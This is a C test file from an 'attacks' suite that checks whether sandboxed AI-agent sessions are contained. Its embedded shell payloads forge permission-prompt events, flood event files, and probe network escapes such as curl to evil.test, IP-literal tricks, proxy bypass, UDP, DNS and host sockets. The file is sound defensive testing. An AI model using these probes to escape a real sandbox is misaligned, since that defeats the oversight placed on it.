	cr_expect(strstr(out, "bashrc: ran") == NULL, "ran the worktree session's plant:\n%s", out);
	cr_expect_neq(stat(fmt("%s/bashrc-ran", wt), &st), 0, "bashrc-ran in the project");
	kill_session(id);
	free(out);
	free(wt);
	free(weak);
	free(ctl);
}

/* ---- 8. the event file ---------------------------------------------------------- */

/*
 * What a session may write for hqt is its own event file: with the hooks'
 * helper, a permission prompt under a forged id; then 8 MiB of junk
 * straight into the file (it is bound writable), and the helper once more.
 * The line is looked for in the file, not told by the helper's exit: built
 * with ASan it exits 1 in a sandbox (its leak check cannot run there).
 */
static const char EVENTS_PAYLOAD[] =
	": >\"$OUT\"\n"
	"rec \"file $HQT_EVENT_FILE\"\n"
	"ev() { printf '{\"hook_event_name\":\"PermissionRequest\",\"session_id\":\"%s\"}' @FORGED@ |\n"
	"  \"$HQT_EVENT_COMMAND\"; }\n"
	"ev; rec \"helper exit $?\"; grep -q @FORGED@ \"$HQT_EVENT_FILE\" && rec sent\n"
	"head -c 8388608 /dev/zero | tr '\\0' x >>\"$HQT_EVENT_FILE\" && rec \"junk $(stat -c %s \"$HQT_EVENT_FILE\")\"\n"
	"ev; rec \"again $(stat -c %s \"$HQT_EVENT_FILE\")\"\n"
	"park\n";

/* A string member of session id in `hqt list --json` ("null" when not a
 * string); of instance B (--db bdb, the server bsock) when bdb is set. */
static char *
list_field(const char *bdb, long id, const char *key)
{
	struct run r;
	json_t *l, *s, *v;
	char *out;

	if (bdb != NULL)
		run_hqt(&r, &te, "list", "--json", "--db", bdb, "--tmux-socket", bsock, NULL);
	else
		run_hqt(&r, &te, "list", "--json", NULL);
	l = run_json(&r, "list --json");
	run_free(&r);
	s = session_in(l, id);
	cr_assert_not_null(s, "session %ld is not listed", id);
	v = json_object_get(s, key);
	out = strdup(json_is_string(v) ? json_string_value(v) : "null");
	json_decref(l);
	return out;
}

/*
 * Issue 20 item 4: two hqt instances of one user (another --db, another
 * tmux server) both have a session 1.  With event files named by the
 * number alone, the sandboxed session 1 of instance A rewrote the harness
 * session id of instance B's unsandboxed session 1 (its next resume opens
 * another conversation) and flagged it "needs you".  Now each database has
 * its own files.  Control: A's own session takes the forged id and the
 * prompt.  And a file the session grew on its own does not stop the
 * reader (it reads the tail), and the helper's next line brings it back
 * under its bound.
 */
Test(attacks, events_stay_with_their_instance)
{
	static const char forged[] = "0199cccc-0000-7000-8000-00000000e0e1";
	char *adir = fmt("%s/a", te.root), *a = new_project("a", adir), *b = fmt("%s/b", te.root);
	char *bdb = fmt("%s/b.db", te.root);
	const char *pairs[] = { "FORGED", forged, NULL };
	char *payload = subst(EVENTS_PAYLOAD, pairs);
	install_payload("claude", payload, true);

	/* B: the user's unsandboxed claude (the stock fake: the payload's
	 * guard hands over), session 1 of its own database and server. */
	bsock = fmt("%s-b", te.socket);
	mkdir(b, 0755);
	run_ok(&te, "project", "add", "b", b, "--db", bdb, NULL);
	long plain = run_new(&te, "b", "claude", "--db", bdb, "--tmux-socket", bsock, NULL);
	char *bid = list_field(bdb, plain, "harness_session_id"), *att = NULL;
	cr_assert_str_neq(bid, "null");
	for (long long end = now_ms() + 10000; now_ms() < end; sleep_ms(100)) {
		free(att);
		att = list_field(bdb, plain, "attention");
		if (strcmp(att, "idle") == 0)
			break;
	}
	cr_assert_str_eq(att, "idle", "control: B's session never read idle");
	free(att);

	/* A: the attack, session 1 of the default database. */
	long boxed = run_new(&te, "a", "claude", "--sandbox", "--fs", "rw", NULL);
	cr_assert_eq(boxed, plain, "both instances' first session is 1: %ld, %ld", boxed, plain);
	char *out = results_in(a, "claude", boxed, NULL);
	char *afile = line_after(out, "file ");
	cr_assert(afile != NULL && afile[0] == '/', "no event file in the session:\n%s", out);
	cr_expect(strstr(out, "\nsent\n") != NULL, "control: the helper wrote nothing:\n%s", out);
	char *junk = line_after(out, "junk "), *again = line_after(out, "again ");
	cr_expect(junk != NULL && atol(junk) >= 8 << 20, "control: no junk written:\n%s", out);
	cr_expect(again != NULL && atol(again) <= 1 << 20,
		  "the helper left the file at %s bytes:\n%s", again ? again : "?", out);

	/* Control: A's own session takes the forged id and the prompt. */
	char *aid = NULL;
	att = NULL;
	for (long long end = now_ms() + 8000; now_ms() < end; sleep_ms(100)) {
		free(aid);
		free(att);
		aid = list_field(NULL, boxed, "harness_session_id");
		att = list_field(NULL, boxed, "attention");
		if (strcmp(aid, forged) == 0 && strcmp(att, "needs_input") == 0)
			break;
	}
	cr_expect_str_eq(aid, forged, "control: A's session did not take its own event's id");
	cr_expect_str_eq(att, "needs_input", "control: A's session did not read its own prompt");
	free(aid);
	free(att);

	/* B's session: its own id, not needing the user, its own file. */
	for (int i = 0; i < 5; i++) {
		char *id = list_field(bdb, plain, "harness_session_id");
		att = list_field(bdb, plain, "attention");
		cr_expect_str_eq(id, bid, "B's session took the id A's session forged");
		cr_expect_str_eq(att, "idle", "B's session took A's session's prompt");
		free(id);
		free(att);
		sleep_ms(200);
	}
	{
		glob_t g;
		char *pat = fmt("%s/.fake/claude.*.env", b), *bfile = NULL;

		cr_assert_eq(glob(pat, 0, NULL, &g), 0, "B's harness recorded no environment");
		FILE *f = fopen(g.gl_pathv[0], "r");
		char *line = NULL;
		size_t cap = 0;
		while (f != NULL && bfile == NULL && getdelim(&line, &cap, '\0', f) > 0)
			if (strncmp(line, "HQT_EVENT_FILE=", 15) == 0)
				bfile = strdup(line + 15);
		if (f != NULL)
			fclose(f);
		free(line);
		cr_assert_not_null(bfile, "B's harness had no event file");
		cr_expect_str_neq(bfile, afile, "both instances' session 1 share %s", bfile);
		free(bfile);
		free(pat);
		globfree(&g);
	}
	struct stat st;
	cr_expect(stat(afile, &st) == 0 && st.st_size <= 1 << 20,
		  "A's event file is %lld bytes on the host", (long long)st.st_size);
	free(junk);
	free(again);
	free(afile);
	free(out);
	free(bid);
	free(payload);
	free(bdb);
	free(adir);
	free(a);
	free(b);
}

/* ---- 9. net = allow: only the listed hosts, through the session's proxy ------ */

/*
 * From inside a session with net = allow (a world of the test's own:
 * networld.h), every way out: the allowed names through the proxy (the
 * controls inside), and each refusal of SPEC §8.11.  curl names the proxy
 * from the session's environment, as a harness's HTTP library does.
 */
static const char NET_PAYLOAD[] =
	": >\"$OUT\"\n"
	"CA=$PWD/ca.pem\n"
	"c() { local what=$1 out; shift\n"
	"  if out=$(curl -fsS --max-time 5 --cacert \"$CA\" \"$@\" 2>&1); then rec \"$what: ok $out\"\n"
	"  else rec \"$what: failed $(printf %s \"$out\" | head -c 100 | tr '\\n' ' ')\"; fi; }\n"
	"c allowed https://api.allowed.test/\n"
	"c wildcard https://b.a.wild.test/\n"
	"c unlisted https://evil.test/\n"
	"c ip-literal https://198.18.0.1/\n"
	"c ip-short https://127.1/\n"
	"c ip-decimal https://2130706433/\n"
	"c ip-mapped 'https://[::ffff:127.0.0.1]/'\n"
	"c plain-http http://api.allowed.test/\n"
	"c other-port https://api.allowed.test:8443/\n"
	"for n in trap lan meta own v6 mapped nat64; do c \"resolves-$n\" https://$n.allowed.test/; done\n"
	"c proxy-pages -x http://127.0.0.1:3199 http://127.0.0.1:3199/squid-internal-mgr/info\n"
	"c cache-object -x http://127.0.0.1:3199 cache_object://127.0.0.1/info\n"
	"c no-proxy --noproxy '*' https://api.allowed.test/\n"
	"c direct --noproxy '*' https://198.18.0.1/\n"
	"\"$BIN/hqt-probe\" connect-tcp 198.18.0.1 443 connect-tcp 127.0.0.1 @SECRET@ \\\n"
	"  connect-abstract @ABSTRACT@ >>\"$OUT\" 2>&1\n"
	"if (exec 3<>/dev/udp/198.18.0.53/53 && printf x >&3) 2>/dev/null; then rec 'udp: ok'\n"
	"else rec 'udp: failed'; fi\n"
	"if getent hosts denied-dns.test >/dev/null 2>&1; then rec 'dns: ok'; else rec 'dns: failed'; fi\n"
	"park\n";

/* Processes whose command line holds s (the proxy's: its directory). */
static int
count_holding(const char *s)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int n = 0;

	while (d != NULL && (de = readdir(d)) != NULL) {
		char *end, *path, buf[8192];
		long pid = strtol(de->d_name, &end, 10);
		ssize_t len;
		int fd;

		if (*end != '\0' || pid <= 0)
			continue;
		path = fmt("/proc/%ld/cmdline", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		free(path);
		if (fd < 0)
			continue;
		len = read(fd, buf, sizeof buf - 1);
		close(fd);
		for (ssize_t i = 0; i < len; i++)
			if (buf[i] == '\0')
				buf[i] = ' ';
		buf[len > 0 ? len : 0] = '\0';
		if (strstr(buf, s) != NULL && strstr(buf, "hqt-attack") == NULL)
			n++;
	}
	if (d != NULL)
		closedir(d);
	return n;
}

static int
none_holding(void *s)
{
	return count_holding(s) == 0;
}

/* The proxy's directory of session id (beside its event file). */
static char *
net_dir_of(long id)
{
	glob_t g;
	char *pat = fmt("%s/run/hqt/events/*/net-%ld", te.root, id), *out = NULL;

	if (glob(pat, 0, NULL, &g) == 0 && g.gl_pathc == 1)
		out = strdup(g.gl_pathv[0]);
	globfree(&g);
	free(pat);
	return out;
}

static int
gone(void *path)
{
	struct stat st;

	return lstat(path, &st) != 0;
}

static char *
shm_listing(void)
{
	return ls_dir("/dev/shm");
}

Test(attacks, net_allow_only_the_listed_hosts_through_the_proxy, .timeout = 180)
{
	struct networld w;
	char *dir, *out, *wlog, *hlog, *shm_before;
	char *secret, *list;
	long id;

	networld_enter(&w);
	shm_before = shm_listing();
	dir = new_project("p", fmt("%s/netp", te.root));
	sh_ok("/", fmt("cp '%s' '%s/ca.pem'", w.ca, dir));
	secret = fmt("%d", w.secret_port);
	{
		const char *pairs[] = { "SECRET", secret, "ABSTRACT", w.abstract, NULL };
		char *body = subst(NET_PAYLOAD, pairs);
		install_payload("claude", body, true);
		free(body);
	}
	list = "allow:api.allowed.test,*.wild.test,trap.allowed.test,lan.allowed.test,"
	       "meta.allowed.test,own.allowed.test,v6.allowed.test,mapped.allowed.test,"
	       "nat64.allowed.test";
	id = run_new(&te, "p", "claude", "--sandbox", "--fs", "rw", "--net", list, NULL);
	out = results_in(dir, "claude", id, NULL);
	cr_log_info("%s", out);

	/* controls inside: the listed names work, through the proxy */
	cr_expect(strstr(out, "allowed: ok hqt-world-ok") != NULL, "allowed name:\n%s", out);
	cr_expect(strstr(out, "wildcard: ok hqt-world-ok") != NULL, "*.wild.test:\n%s", out);
	/* everything else is refused */
	static const char *const refused[] = {
		"unlisted", "ip-literal", "ip-short", "ip-decimal", "ip-mapped", "plain-http",
		"other-port", "resolves-trap", "resolves-lan", "resolves-meta", "resolves-own",
		"resolves-v6", "resolves-mapped", "resolves-nat64", "proxy-pages", "cache-object",
		"no-proxy", "direct", "udp", "dns",
	};
	for (size_t i = 0; i < sizeof refused / sizeof refused[0]; i++) {
		char *k = fmt("%s: ", refused[i]), *v = line_after(out, k);
		cr_expect(v != NULL && strncmp(v, "failed", 6) == 0, "%s: %s", refused[i], v);
		free(v);
		free(k);
	}
	char *k = fmt("connect-tcp 127.0.0.1 %s: ", secret), *v = line_after(out, k);
	cr_expect(v != NULL && strcmp(v, "ok") != 0, "host loopback: %s", v);
	free(v);
	free(k);
	v = line_after(out, "connect-tcp 198.18.0.1 443: ");
	cr_expect(v != NULL && strcmp(v, "ok") != 0, "direct TCP: %s", v);
	free(v);
	k = fmt("connect-abstract %s: ", w.abstract);
	v = line_after(out, k);
	cr_expect(v != NULL && strcmp(v, "ok") != 0, "host abstract socket: %s", v);
	free(v);
	free(k);

	/* where it would land: the world saw only the listed names, and no
	 * DNS query at all; the host's services saw nobody (given the moment
	 * a recorder takes to write what it accepted) */
	sleep_ms(500);
	wlog = networld_world_log(&w);
	hlog = networld_host_log(&w);
	cr_log_info("world:\n%s\nhost:\n%s", wlog, hlog);
	cr_expect(strstr(wlog, "request https GET / host=api.allowed.test") != NULL, "%s", wlog);
	cr_expect(strstr(wlog, "evil.test") == NULL && strstr(wlog, "dns ") == NULL &&
		  strstr(wlog, "request http ") == NULL && strstr(wlog, ":8443") == NULL,
		  "the world saw a refused request:\n%s", wlog);
	cr_expect_str_empty(hlog, "the host's services were reached:\n%s", hlog);
	/* hqt show names what the proxy refused */
	{
		struct run r;
		run_hqt(&r, &te, "show", num(id), NULL);
		cr_expect(strstr(r.out, "evil.test:443") != NULL, "show:\n%s", r.out);
		run_free(&r);
	}

	/* the proxy goes with the session: processes, its directory, shm */
	char *nd = net_dir_of(id);
	cr_assert_not_null(nd, "no proxy directory for session %ld", id);
	cr_expect_gt(count_holding(nd), 0, "no proxy runs for %s", nd);
	kill_session(id);
	cr_expect(wait_for(none_holding, nd, 10000), "the proxy outlived hqt kill");
	cr_expect(wait_for((int (*)(void *))none_marked, fmt("hqt-attack-%s", tok), 10000));
	cr_expect(wait_for(gone, nd, 5000), "%s is left", nd);
	char *shm_after = shm_listing();
	cr_expect_str_eq(shm_after, shm_before, "/dev/shm");

	/* and after SIGKILL of hqt-launch */
	install_payload("claude", "park\n", true);
	long id2 = run_new(&te, "p", "claude", "--sandbox", "--fs", "rw", "--net", "allow:+", NULL);
	char *nd2 = NULL;
	for (int i = 0; i < 100 && (nd2 == NULL || count_holding(nd2) == 0); i++) {
		free(nd2);
		nd2 = net_dir_of(id2);
		sleep_ms(50);
	}
	cr_assert_not_null(nd2);
	{
		struct run r;
		char *target = fmt("=hqt:hqt-%ld", id2);
		run_tmux(&r, &te, "display-message", "-p", "-t", target, "#{pane_pid}", NULL);
		long launcher = strtol(r.out, NULL, 10);
		run_free(&r);
		free(target);
		cr_assert_gt(launcher, 1);
		cr_assert_eq(kill((pid_t)launcher, SIGKILL), 0);
	}
	cr_expect(wait_for(none_holding, nd2, 10000), "the proxy outlived SIGKILL of hqt-launch");
	shm_after = shm_listing();
	cr_expect_str_eq(shm_after, shm_before, "/dev/shm after SIGKILL");

	/* Controls outside the sandbox: the same requests land. */
	struct run r;
	const char *direct[] = { "curl", "-sS", "--max-time", "5", "--cacert", w.ca, "--noproxy", "*",
				 "https://api.allowed.test/", NULL };
	run_in(&r, "/", direct);
	cr_expect_str_eq(r.out, NETWORLD_BODY, "control: the world: %s", r.err);
	run_free(&r);
	const char *dns[] = { "getent", "hosts", "denied-dns.test", NULL };
	run_in(&r, "/", dns);
	run_free(&r);
	for (int i = 0; i < 100; i++) {
		free(wlog);
		wlog = networld_world_log(&w);
		if (strstr(wlog, "dns denied-dns.test") != NULL)
			break;
		sleep_ms(50);
	}
	cr_expect(strstr(wlog, "dns denied-dns.test") != NULL, "control: no DNS query:\n%s", wlog);
	const char *probe[] = { "sh", "-c", fmt("'%s' connect-tcp 127.0.0.1 %s connect-abstract %s",
						fmt("%s/hqt-probe", bin), secret, w.abstract), NULL };
	run_in(&r, "/", probe);
	cr_log_info("control probe: %s", r.out);
	run_free(&r);
	/* the recorders write when they accept: wait for both lines */
	for (int i = 0; i < 100; i++) {
		free(hlog);
		hlog = networld_host_log(&w);
		if (strstr(hlog, "accept 127.0.0.1") != NULL && strstr(hlog, "accept @") != NULL)
			break;
		sleep_ms(50);
	}
	cr_expect(strstr(hlog, "accept 127.0.0.1") != NULL && strstr(hlog, "accept @") != NULL,
		  "control: the host's services saw nothing:\n%s", hlog);
	networld_free(&w);
}
